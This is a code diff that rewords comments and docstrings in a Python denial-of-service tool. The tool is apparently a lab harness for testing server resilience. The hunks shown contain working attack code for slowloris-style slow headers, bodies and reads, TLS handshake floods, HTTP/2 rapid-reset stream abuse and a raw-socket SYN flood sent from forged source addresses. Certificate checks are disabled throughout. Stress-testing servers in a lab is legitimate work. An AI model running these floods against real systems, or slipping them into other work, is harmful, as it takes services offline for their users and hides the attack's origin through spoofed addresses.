@@ -14,13 +14,13 @@ import time
 from collections.abc import Awaitable, Callable
 
 CONNECTIONS = 4000
-RESETS = 100  # streams that are opened and reset before the next look at the connection
-FORGED = (10, 99)  # a network that the server is told to find behind this host, so that its answers go nowhere else
+RESETS = 100  # streams opened and reset before the connection is read again
+FORGED = (10, 99)  # the server routes this network to the attacking host, so its answers leave no lab
 SESSIONS = {"rapid_reset": 8, "handshakes": 64}
 
 
 def context(*protocols: str) -> ssl.SSLContext:
-    """Return a client's TLS context that believes anybody and offers these protocols."""
+    """Return a client's TLS context that accepts any certificate and offers these protocols."""
     made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
     if protocols:
@@ -44,7 +44,7 @@ class Attack:
         return self.end - time.monotonic()
 
     async def hold(self, count: int, once: Callable[[], Awaitable[None]]) -> None:
-        """Keep `count` of `once` going, each begun anew when it ends, as a real attacker does."""
+        """Run `once` `count` times at once, each started again when it ends, as a real attacker does."""
 
         async def again() -> None:
             await asyncio.sleep(random.random())
@@ -57,11 +57,11 @@ class Attack:
         await asyncio.gather(*(again() for _ in range(count)))
 
     async def slow_headers(self) -> None:
-        """A header a second that never ends."""
+        """Send a request's headers slowly, one a second, without end."""
         await self._drip(b"GET / HTTP/1.1\r\nHost: %b\r\n" % self.name.encode(), b"X-Slow: 1\r\n")
 
     async def slow_bodies(self) -> None:
-        """A body of which a byte comes each second."""
+        """Send a request's body one byte a second."""
         await self._drip(b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: 900\r\n\r\n" % self.name.encode(), b"a")
 
     async def _drip(self, start: bytes, drop: bytes) -> None:
@@ -77,7 +77,7 @@ class Attack:
             writer.transport.abort()
 
     async def slow_reads(self) -> None:
-        """The largest file, asked for eight times on one connection and hardly read."""
+        """Request the largest file eight times on one connection and hardly read the answers."""
         plain = socket.socket()
         plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
         plain.setblocking(False)
@@ -92,13 +92,13 @@ class Attack:
             writer.transport.abort()
 
     async def handshakes(self) -> None:
-        """A TLS handshake and nothing else."""
+        """Make a TLS handshake and nothing else."""
         _, writer = await asyncio.open_connection(self.address, 443, ssl=HTTP1, server_hostname=self.name)
         self.tries += 1
         writer.transport.abort()
 
     async def rapid_reset(self) -> None:
-        """HTTP/2 streams that are opened and at once given up."""
+        """Open HTTP/2 streams and reset them at once."""
         reader, writer = await asyncio.open_connection(self.address, 443, ssl=HTTP2, server_hostname=self.name)
         try:
             writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
@@ -116,7 +116,7 @@ class Attack:
             writer.transport.abort()
 
     def syn(self) -> None:
-        """Half-open connections from a /16 of forged addresses."""
+        """Leave half-open connections from a /16 network of forged addresses."""
         raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
         target = socket.inet_aton(self.address)
         packets = [syn_packet(bytes([*FORGED, *random.randbytes(2)]), target) for _ in range(4096)]
@@ -124,7 +124,7 @@ class Attack:
             for packet in packets:
                 try:
                     raw.sendto(packet, (self.address, 0))
-                except OSError:  # its own queue is full
+                except OSError:  # this host's own send queue is full
                     continue
                 self.tries += 1
 
@@ -148,7 +148,7 @@ def syn_packet(source: bytes, target: bytes) -> bytes:
 
 
 def main() -> None:
-    """Attack as the command line says."""
+    """Run the attack that the command line names."""
     kind, address, name, path, seconds = sys.argv[1:]
     attack = Attack(address, name, path, float(seconds))
 
@@ -156,7 +156,7 @@ def main() -> None:
         print(attack.tries, flush=True)
         os._exit(0)
 
-    # Thousands of connections take their time to end by themselves.
+    # A signal ends the attack, because thousands of connections take long to end by themselves.
     signal.signal(signal.SIGALRM, stop)
     signal.setitimer(signal.ITIMER_REAL, float(seconds) + 1)
     if kind == "syn":
